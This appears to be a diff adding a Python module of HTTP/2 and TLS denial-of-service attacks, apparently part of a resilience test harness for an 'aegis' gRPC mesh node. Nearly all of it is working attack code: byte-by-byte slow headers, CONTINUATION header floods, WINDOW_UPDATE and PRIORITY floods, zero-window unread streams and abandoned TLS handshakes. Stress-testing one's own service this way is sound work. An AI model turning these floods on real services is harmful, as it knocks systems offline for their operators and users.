@@ -1,0 +1,281 @@
+"""What one member can hold or send slowly at a node, beside the floods of `attacks.py`.
+
+Each attack runs until its time is over, as those do.
+"""
+
+from __future__ import annotations
+
+import select
+import socket
+import ssl
+import struct
+import threading
+import time
+from collections.abc import Callable
+from contextlib import suppress
+
+from attacks import BATCH, RATE, Attack
+from frames import (
+    CONTINUATION,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    MAX_FRAME,
+    PRIORITY,
+    SETTINGS,
+    WINDOW_UPDATE,
+    Connection,
+    frame,
+    message,
+    request_headers,
+)
+from workload import path
+
+SLOW = 200
+"""Connections that send a byte at a time."""
+
+STREAMS = 900
+"""Calls of a connection that are open at once."""
+
+UNREAD_CONNECTIONS = 8
+ANSWER = b"x" * 15_000
+WATCH = "/aegis.mesh.v1.Mesh/Watch"
+THREADS = 8
+NO_WINDOW = struct.pack(">HI", 4, 0)
+"""A setting: no stream may send."""
+
+
+def slow_headers(attack: Attack, until: float) -> int:
+    """Sends the headers of a call byte by byte."""
+    head = frame(HEADERS, 1, request_headers(path("Echo"), attack.node_id), END_HEADERS)
+    return _trickle(attack, until, head)
+
+
+def slow_data(attack: Attack, until: float) -> int:
+    """Sends a request byte by byte, each in a frame of its own."""
+    head = frame(HEADERS, 1, request_headers(path("Echo"), attack.node_id), END_HEADERS)
+    parts = [frame(DATA, 1, bytes([byte])) for byte in message(b"x" * 10_000)]
+    return _trickle(attack, until, head, parts)
+
+
+def _trickle(attack: Attack, until: float, head: bytes, parts: list[bytes] | None = None) -> int:
+    """Sends one thing on each of many connections, a piece at a time."""
+    pieces = [head, *parts] if parts else [bytes([byte]) for byte in head]
+    sent = 0
+    at: dict[Connection, int] = {}
+    while time.monotonic() < until:
+        while len(at) < SLOW and time.monotonic() < until:
+            with suppress(OSError):
+                at[attack.connect()] = 0
+        for connection, number in list(at.items()):
+            try:
+                connection.send(pieces[number])
+                sent += 1
+                at[connection] = number + 1
+                if number + 1 == len(pieces):
+                    del at[connection]
+            except OSError:
+                del at[connection]
+        time.sleep(0.1)
+    return sent
+
+
+def many_headers(attack: Attack, until: float) -> int:
+    """Calls with 20 000 headers of one byte, in frames of the largest size."""
+    block = request_headers(path("Echo"), attack.node_id)
+    more = (b"\x00\x01x\x01y" * (MAX_FRAME // 5))[:MAX_FRAME]
+    more = more[: len(more) // 5 * 5]
+
+    def batch(connection: Connection) -> bytes:
+        frames = []
+        for _ in range(BATCH):
+            stream = connection.next_stream()
+            frames.append(frame(HEADERS, stream, block))
+            frames += [frame(CONTINUATION, stream, more)] * 6
+            frames.append(frame(CONTINUATION, stream, b"", END_HEADERS))
+        return b"".join(frames)
+
+    return attack.flood(until, batch, RATE)
+
+
+def method_names(attack: Attack, until: float) -> int:
+    """Calls methods that do not exist, each with another name."""
+    number = 0
+
+    def batch(connection: Connection) -> bytes:
+        nonlocal number
+        frames = []
+        for _ in range(BATCH):
+            number += 1
+            stream = connection.next_stream()
+            block = request_headers(path(f"No{number}-{'n' * 80}"), attack.node_id)
+            frames.append(frame(HEADERS, stream, block, END_HEADERS))
+            frames.append(frame(DATA, stream, message(b""), END_STREAM))
+        return b"".join(frames)
+
+    return attack.flood(until, batch, 4 * RATE)
+
+
+def window_updates(attack: Attack, until: float) -> int:
+    return attack.flood(until, _on_open(attack, WINDOW_UPDATE, struct.pack(">I", 1)), 1e9)
+
+
+def priorities(attack: Attack, until: float) -> int:
+    return attack.flood(until, _on_open(attack, PRIORITY, b"\0\0\0\0\x10"), 1e9)
+
+
+def empty_data(attack: Attack, until: float) -> int:
+    return attack.flood(until, _on_open(attack, DATA, b""), 1e9)
+
+
+def _on_open(attack: Attack, kind: int, payload: bytes) -> Callable[[Connection], bytes]:
+    """Returns what repeats a frame on an open call of each connection."""
+    block = request_headers(path("Upload"), attack.node_id)
+    streams: dict[Connection, int] = {}
+
+    def batch(connection: Connection) -> bytes:
+        first = b""
+        if connection not in streams:
+            stream = streams[connection] = connection.next_stream()
+            first = frame(HEADERS, stream, block, END_HEADERS)
+        return first + frame(kind, streams[connection], payload) * BATCH
+
+    return batch
+
+
+def unread_answers(attack: Attack, until: float) -> int:
+    """Makes calls with answers of 15 KB on several connections, and lets none be sent."""
+    sent = 0
+    call = frame(DATA, 0, message(ANSWER), END_STREAM)
+    connections: list[Connection] = []
+    while time.monotonic() < until:
+        with suppress(OSError):
+            while len(connections) < UNREAD_CONNECTIONS and time.monotonic() < until:
+                connection = attack.connect()
+                connection.send(frame(SETTINGS, 0, NO_WINDOW))
+                connections.append(connection)
+                for _ in range(STREAMS):
+                    while connection.window < len(call):
+                        _read(connection, 0.2)
+                    connection.call(path("Echo"), ANSWER)
+                    connection.window -= len(ANSWER) + 5
+                    sent += 1
+        for connection in connections:
+            with suppress(OSError):
+                _read(connection, 0)
+        time.sleep(0.1)
+    return sent
+
+
+def unread_streams(attack: Attack, until: float) -> int:
+    """Opens downloads, and lets nothing be sent."""
+    return _unread(attack, until, path("Download"), b"1000000")
+
+
+def unread_feeds(attack: Attack, until: float) -> int:
+    """Watches the mesh, and lets nothing be sent."""
+    from aegis_discovery import DEFAULT_MESH
+    from aegis_discovery.proto import mesh_pb2
+
+    request = mesh_pb2.WatchRequest(mesh=DEFAULT_MESH).SerializeToString()
+    return _unread(attack, until, WATCH, request)
+
+
+def _unread(attack: Attack, until: float, method: str, request: bytes) -> int:
+    sent = 0
+    while time.monotonic() < until:
+        with suppress(OSError):
+            connection = attack.connect()
+            connection.send(frame(SETTINGS, 0, NO_WINDOW))
+            while time.monotonic() < until:
+                connection.call(method, request)
+                sent += 1
+                _read(connection, 0.01)
+    return sent
+
+
+def _read(connection: Connection, timeout: float) -> None:
+    while select.select([connection.socket], [], [], timeout)[0] or connection.socket.pending():
+        for _ in connection.receive():
+            pass
+        timeout = 0
+
+
+def half_closed(attack: Attack, until: float) -> int:
+    """Ends its own half of connections that have a call open."""
+    opened = 0
+    while time.monotonic() < until:
+        with suppress(OSError):
+            connection = attack.connect()
+            connection.open(path("Upload"))
+            connection.socket.shutdown(socket.SHUT_WR)
+            opened += 1
+    return opened
+
+
+def handshakes(attack: Attack, until: float) -> int:
+    """Connects with TLS and closes, again and again, on several threads."""
+
+    def connect() -> None:
+        attack.connect().close()
+
+    return _repeat(connect, until)
+
+
+def abandoned_handshakes(attack: Attack, until: float) -> int:
+    """Begins TLS handshakes, as a stranger, and falls silent."""
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    hello = attack.context.wrap_bio(incoming, outgoing, server_hostname=attack.node_id)
+    with suppress(ssl.SSLWantReadError):
+        hello.do_handshake()
+    first = outgoing.read()
+    host, port = attack.address.rsplit(":", 1)
+    held: list[socket.socket] = []
+
+    def begin() -> None:
+        one = socket.create_connection((host, int(port)), 5)
+        one.sendall(first)
+        held.append(one)
+        if len(held) > 2_000:
+            held.pop(0).close()
+
+    begun = _repeat(begin, until)
+    for one in held:
+        one.close()
+    return begun
+
+
+def _repeat(work: Callable[[], None], until: float) -> int:
+    counts = [0] * THREADS
+
+    def repeat(number: int) -> None:
+        while time.monotonic() < until:
+            with suppress(OSError):
+                work()
+                counts[number] += 1
+
+    threads = [threading.Thread(target=repeat, args=(n,)) for n in range(THREADS)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    return sum(counts)
+
+
+KINDS: dict[str, Callable[[Attack, float], int]] = {
+    "messages without an end": lambda attack, until: attack.unfinished_requests(until, "Upload"),
+    "unread answers": unread_answers,
+    "unread streams": unread_streams,
+    "unread feeds": unread_feeds,
+    "slow headers": slow_headers,
+    "slow requests": slow_data,
+    "many headers": many_headers,
+    "method names": method_names,
+    "WINDOW_UPDATE": window_updates,
+    "PRIORITY": priorities,
+    "empty DATA": empty_data,
+    "half-closed": half_closed,
+    "handshakes": handshakes,
+    "abandoned handshakes": abandoned_handshakes,
+}
